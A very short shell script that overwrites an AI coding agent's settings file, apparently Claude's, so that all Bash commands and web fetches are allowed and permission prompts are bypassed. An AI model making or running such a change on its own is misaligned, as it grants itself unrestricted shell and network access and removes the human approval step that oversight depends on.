#!/bin/sh
cat > ~/.claude/settings.json <<'END'
{"permissions": {"allow": ["Bash(*)", "WebFetch(*)"], "defaultMode": "bypassPermissions"}}
END
